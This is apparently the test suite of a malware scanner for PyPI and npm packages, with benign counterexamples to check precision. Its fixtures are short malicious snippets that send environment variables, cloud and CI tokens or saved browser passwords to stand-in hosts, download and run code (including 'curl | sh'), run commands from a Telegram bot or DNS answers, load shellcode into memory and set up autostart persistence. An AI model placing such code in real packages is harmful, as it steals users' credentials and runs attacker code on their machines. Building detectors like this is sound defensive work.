import { describe, expect, it } from '@jest/globals';
import { jsExfiltration } from '../../../src/analysis/rules/js-exfiltration.js';
import { jsObfuscatedCode } from '../../../src/analysis/rules/js-obfuscated-code.js';
import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
import { codeMemoryExecution } from '../../../src/analysis/rules/code-memory-execution.js';
import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
import { pyExecDecoded } from '../../../src/analysis/rules/py-exec-decoded.js';
import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
import { pyObfuscatedCode } from '../../../src/analysis/rules/py-obfuscated-code.js';
import { pyPersistence } from '../../../src/analysis/rules/py-persistence.js';
import { pySuspiciousEndpoint } from '../../../src/analysis/rules/py-suspicious-endpoint.js';
import { gating, runOn } from '../rules/helpers.js';

// Techniques where what the code does is only visible by following values a step further than
// the call itself: through a variable, a generator, an aliased builtin, an imported constant,
// a method of the same class.
const setup = "from setuptools import setup\nsetup(name='demo')\n";

describe('values followed through code', () => {
  it('sees the environment copied into a variable, serialised and posted on import', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os, json, base64, requests',
        'env_dict = dict(os.environ)',
        'blob = base64.b64encode(json.dumps(env_dict).encode()).decode()',
        'requests.post("https://collector.example.com/c", data={"t": blob})',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('sees the environment joined into k=v lines and written to a socket', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/report.py': [
        'import os, socket',
        'def report():',
        '    lines = "\\n".join(f"{k}={v}" for k, v in os.environ.items())',
        '    sock = socket.create_connection(("collector.example.com", 443))',
        '    sock.sendall(lines.encode())',
      ].join('\n'),
    });
    expect(findings.map((f) => f.rule)).toContain('py-exfiltration');
  });

  it('does not call an environment copy handed to a child process a dump', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/run.py': [
        'import os, subprocess, requests',
        'def run(cmd):',
        '    env = dict(os.environ)',
        '    env["LANG"] = "C"',
        '    return subprocess.run(cmd, env=env)',
        'def version():',
        '    return requests.get("https://pypi.org/pypi/demo/json").json()',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });

  it('resolves builtins spelled from character codes through aliases of globals and join', async () => {
    const files = {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': 'from .inset import fetch\n',
      'demo-1.0/demo/inset.py': [
        'g = globals',
        '_ = "".join',
        'B = _([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])',
        '__ = getattr(g()[B], _([chr(c) for c in [103, 101, 116, 97, 116, 116, 114]]))',
        'def fetch():',
        '    api = __import__("urllib.request")',
        '    code = __(api.request, "urlopen")("https://example.com/x").read()',
        '    __(g()["__builtins__"], "exec")(code)',
        'fetch()',
      ].join('\n'),
    };
    const obfuscation = await runOn(pyObfuscatedCode, 'pypi', files);
    expect(gating(obfuscation)[0]?.evidence ?? '').toContain('getattr');
    const exec = await runOn(pyExecDecoded, 'pypi', files);
    expect(gating(exec)).toHaveLength(1);
  });

  it('treats the output of a curl command as downloaded code when it is executed', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/update.py': [
        'import subprocess',
        'def update():',
        '    exec(subprocess.getoutput("curl -s https://example.com/static/favicon.ico"), {}, {})',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('treats a request to an address decoded from an imported constant as a hidden endpoint', async () => {
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/constants.py': 'SIGN_KEY = "aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5jb20v"\n',
      'demo-1.0/demo/account.py': [
        'import base64, requests',
        'from .constants import SIGN_KEY',
        'def parse_key(key):',
        '    requests.get(str(base64.b64decode(SIGN_KEY), encoding="utf-8") + key)',
        '    return key',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toContain('destination decoded at run time');
  });

  it('follows a decoder method of the same class to the host it connects to', async () => {
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/cipher.py': [
        'from http.client import HTTPSConnection',
        'from zlib import decompress',
        'from base64 import b64decode',
        'class Cipher:',
        '    def decd(self, data):',
        '        b64d = lambda x: b64decode(x)',
        '        return decompress(b64d(data[::-1])).decode()',
        '    def send(self, host_blob, payload):',
        '        conn = HTTPSConnection(self.decd(host_blob), timeout=1)',
        '        conn.request("POST", "/", payload)',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('keeps basic-auth headers built with b64encode below the gate', async () => {
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/client.py': [
        'import base64, requests',
        'def get(url, user, password):',
        '    token = base64.b64encode(f"{user}:{password}".encode()).decode()',
        '    return requests.get(url, headers={"Authorization": "Basic " + token})',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('sees a start-up folder reached through a variable that makedirs, clone and rename target', async () => {
    const findings = await runOn(pyPersistence, 'pypi', {
      'demo-1.0/setup.py': [
        'import os',
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'class Install(install):',
        '    def run(self):',
        '        target = rf"C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
        '        os.makedirs(target + "\\\\boot")',
        '        os.rename("boot/agent.py", os.path.join(target, "agent.py"))',
        '        install.run(self)',
        "setup(name='demo', cmdclass={'install': Install})",
      ].join('\n'),
    });
    expect(gating(findings)[0]?.severity).toBe('critical');
  });

  it('calls a download written out as a Windows program a dropper even without a visible run', async () => {
    const findings = await runOn(pyDownloadExecute, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/core.py': [
        'import requests, getpass, binascii',
        'def start():',
        '    b = requests.get("https://example.com/payload.txt")',
        '    path = "C:/Users/" + getpass.getuser() + "/Documents/"',
        '    with open(path + "c1.exe", "wb") as f:',
        '        f.write(binascii.unhexlify(b.text.encode()))',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].evidence).toContain('c1.exe');
  });

  it('follows a dropper split into a download helper and the function that runs its result', async () => {
    const findings = await runOn(pyDownloadExecute, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/core.py': [
        'import os, site, sys, subprocess, requests',
        'def _fetch():',
        '    code = requests.get("https://example.com/agent.py", timeout=15).text',
        '    target = os.path.join(site.getsitepackages()[0], ".agent.py")',
        '    with open(target, "w") as f:',
        '        f.write(code)',
        '    return target',
        'def analyze(value):',
        '    path = _fetch()',
        '    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
        '    return len(value)',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('does not join unrelated functions that share no call', async () => {
    const findings = await runOn(pyDownloadExecute, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/tools.py': [
        'import subprocess, requests',
        'def fetch(url, dest):',
        '    data = requests.get(url).content',
        '    with open(dest, "wb") as f:',
        '        f.write(data)',
        'def lint(path):',
        '    return subprocess.run(["flake8", path])',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('keeps a downloaded data file written to disk below the gate', async () => {
    const findings = await runOn(pyDownloadExecute, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/core.py': [
        'import requests',
        'def refresh(cache):',
        '    b = requests.get("https://example.com/data.json")',
        '    with open(cache + "/data.json", "wb") as f:',
        '        f.write(b.content)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});

describe('destinations', () => {
  it('counts a bot token of a chat service as a destination next to command execution', async () => {
    const token = `${'8193906441'}:AA${'x'.repeat(33)}`;
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import subprocess, telebot',
        `bot = telebot.TeleBot("${token}")`,
        '@bot.message_handler(content_types=["text"])',
        'def handle(message):',
        '    out = subprocess.check_output(message.text, shell=True)',
        '    bot.reply_to(message, out)',
        'bot.infinity_polling()',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toContain('Telegram bot token');
  });

  it('counts the upload API of a paste site as a destination', async () => {
    const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/leak.py': [
        'import os, urllib.request, urllib.parse',
        'def leak():',
        '    data = urllib.parse.urlencode({"api_paste_code": os.environ.get("API_KEY")})',
        '    urllib.request.urlopen("https://pastebin.com/api/api_post.php", data=data)',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });
});

describe('javascript string tables', () => {
  it('resolves a sink looked up on the global object through an array of escaped names', async () => {
    const payload = Buffer.from("require('child_process').execSync('id')").toString('base64');
    const findings = await runOn(jsExecDecoded, 'npm', {
      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
      'package/index.js': `const _0x1 = ['\\x65\\x76\\x61\\x6c', 'log'];\nglobal[_0x1[0]](Buffer.from('${payload}', 'base64').toString());\n`,
    });
    expect(gating(findings)).toHaveLength(1);
  });
});

describe('more places and paths', () => {
  it('follows what a module passes to its own exec helper', async () => {
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import requests',
        'def _get():',
        '    return requests.get("https://cdn.example.net/s.txt").text',
        'def _run(code):',
        '    exec(code)',
        '_run(_get())',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('counts a desktop autostart entry reached through expanduser as persistence', async () => {
    const findings = await runOn(pyPersistence, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os',
        "p = os.path.expanduser('~/.config/autostart/update.desktop')",
        "open(p, 'w').write('[Desktop Entry]\\nExec=python3 /tmp/u.py\\n')",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('flags a ctypes shellcode loader and an mmap one', async () => {
    const windows = await runOn(codeMemoryExecution, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import ctypes, base64',
        "sc = base64.b64decode('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYA==')",
        'k = ctypes.windll.kernel32',
        'ptr = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)',
        'k.RtlMoveMemory(ctypes.c_void_p(ptr), sc, len(sc))',
        'k.CreateThread(0, 0, ctypes.c_void_p(ptr), 0, 0, 0)',
      ].join('\n'),
    });
    expect(windows[0]?.severity).toBe('critical');
    const linux = await runOn(codeMemoryExecution, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/jit.py': [
        'import mmap, ctypes',
        'def run(buf):',
        '    m = mmap.mmap(-1, len(buf), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)',
        '    m.write(buf)',
        '    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()',
      ].join('\n'),
    });
    expect(gating(linux)).toHaveLength(1);
  });

  it('keeps a single memory-protection call below the gate', async () => {
    const findings = await runOn(codeMemoryExecution, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/guard.py': [
        'import ctypes',
        'def protect(addr, size):',
        '    old = ctypes.c_ulong()',
        '    return ctypes.windll.kernel32.VirtualProtect(addr, size, 0x02, ctypes.byref(old))',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});

describe('stores and scripts named in pieces', () => {
  it('decodes the script an echo | base64 -d | bash pipeline runs', async () => {
    const script = Buffer.from('curl https://cdn.example.net/x | sh').toString('base64');
    const findings = await runOn(pyExecDecoded, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': `import os\nos.system('echo ${script} | base64 -d | bash')\n`,
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].evidence).toContain('cdn.example.net');
  });

  it('joins a downloaded script read back from disk and run with exec', async () => {
    const findings = await runOn(pyDownloadExecute, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import urllib.request, tempfile, os',
        "p = os.path.join(tempfile.gettempdir(), 'x.py')",
        "urllib.request.urlretrieve('https://cdn.example.net/x.py', p)",
        "exec(compile(open(p).read(), p, 'exec'))",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('keeps exec of a version file read from the package below every exec rule', async () => {
    const files = {
      'demo-1.0/setup.py':
        "from setuptools import setup\nexec(open('demo/_version.py').read())\nsetup(name='demo', version=__version__)\n",
    };
    expect(gating(await runOn(pyExecDecoded, 'pypi', files))).toEqual([]);
    expect(gating(await runOn(pyDownloadExecute, 'pypi', files))).toEqual([]);
  });

  it('treats saved browser passwords sent anywhere as theft even when only called', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/c.py': [
        'import os, sqlite3, smtplib',
        'def go():',
        "    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')",
        "    rows = sqlite3.connect(db).execute('select * from logins').fetchall()",
        "    smtplib.SMTP('smtp.example.org', 587).sendmail('a@example.org', 'b@example.org', str(rows))",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('keeps a cloud client that reads its own credentials file and calls its API below the gate', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/client.py': [
        'import os, configparser, requests',
        'def call(action):',
        "    cfg = configparser.ConfigParser(); cfg.read(os.path.expanduser('~/.aws/credentials'))",
        "    return requests.post('https://ec2.amazonaws.com/', data={'Action': action})",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('sees a credentials path built with path.join in JavaScript', async () => {
    const findings = await runOn(jsExfiltration, 'npm', {
      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
      'package/index.js':
        "const fs=require('fs'),path=require('path'),os=require('os');\nconst c=fs.readFileSync(path.join(os.homedir(),'.aws','credentials'),'utf8');\nrequire('https').request({host:'x.example.net',method:'POST'}).end(c);\n",
    });
    expect(gating(findings)).toHaveLength(1);
  });
});

describe('secrets from the environment and commands from the network', () => {
  it('flags CI secrets of several services put into one request body (Python)', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/util.py': [
        'import os, requests',
        'def report():',
        "    requests.post('https://x.example.net/t', json={'t': os.environ.get('GITHUB_TOKEN'), 'a': os.getenv('AWS_SECRET_ACCESS_KEY')})",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toContain('GITHUB_TOKEN');
  });

  it("keeps a client sending its own service's token in an auth header below the gate", async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/gh.py': [
        'import os, requests',
        'def repos():',
        "    token = os.environ['GITHUB_TOKEN']",
        "    return requests.get('https://api.github.com/user/repos', headers={'Authorization': f'token {token}'})",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });

  it('flags a lifecycle script posting npm and GitHub tokens (JavaScript)', async () => {
    const findings = await runOn(jsExfiltration, 'npm', {
      'package/package.json':
        '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
      'package/i.js':
        "fetch('https://x.example.net/t',{method:'POST',body:JSON.stringify({t:process.env.GITHUB_TOKEN,n:process.env.NPM_TOKEN})});\n",
    });
    expect(gating(findings)[0]?.severity).toBe('critical');
  });

  it('treats WebSocket messages and DNS TXT answers as data from the network', async () => {
    const ws = await runOn(jsExecDecoded, 'npm', {
      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
      'package/index.js':
        "const WebSocket=require('ws');const w=new WebSocket('wss://c2.example.net/s');w.on('message',m=>eval(m.toString()));\n",
    });
    expect(gating(ws)).toHaveLength(1);
    const dns = await runOn(jsExecDecoded, 'npm', {
      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
      'package/index.js':
        "require('dns').resolveTxt('cmd.c2.example.net',(e,r)=>{if(!e)require('child_process').exec(r[0].join(''));});\n",
    });
    expect(dns[0]?.message).toContain('runs a command received from the network');
  });
});

describe('obfuscator.io output', () => {
  const rotated =
    "var _0x3a1b=['\\x65\\x78\\x65\\x63','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3a1b,0x1b3));var _0x4d74=function(_0x2d8f05){return _0x3a1b[_0x2d8f05-0x0];};require(_0x4d74('0x1'))[_0x4d74('0x0')]('id');\n";

  it('recognises the string-array rotation even in a short file and weighs computed requires', async () => {
    const findings = await runOn(jsObfuscatedCode, 'npm', {
      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
      'package/index.js': rotated,
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('does not mistake an obfuscator that carries the rotation as a template for obfuscated code', async () => {
    const findings = await runOn(jsObfuscatedCode, 'npm', {
      'package/package.json': '{"name":"obf-tool","version":"1.0.0","main":"index.js"}',
      'package/index.js':
        "const template = `(function(a, n){ while (--n) { a['push'](a['shift']()); } })`;\nmodule.exports = (name) => template.replace('a', name);\n",
    });
    expect(findings).toEqual([]);
  });
});

describe('precision on popular code', () => {
  it('does not call a dev server that resolves localhost and mentions .npmrc in a deny list a theft', async () => {
    const findings = await runOn(jsExfiltration, 'npm', {
      'package/package.json': '{"name":"devserver","version":"1.0.0","main":"index.js"}',
      'package/index.js': [
        "const dns = require('dns');",
        "const deny = ['.env', '.npmrc', '**/.git/**'];",
        "const brave = '/mnt/c/Program Files/BraveSoftware/Brave-Browser/Application/brave.exe';",
        "dns.promises.lookup('localhost').then((a) => console.log(a, deny, brave));",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});
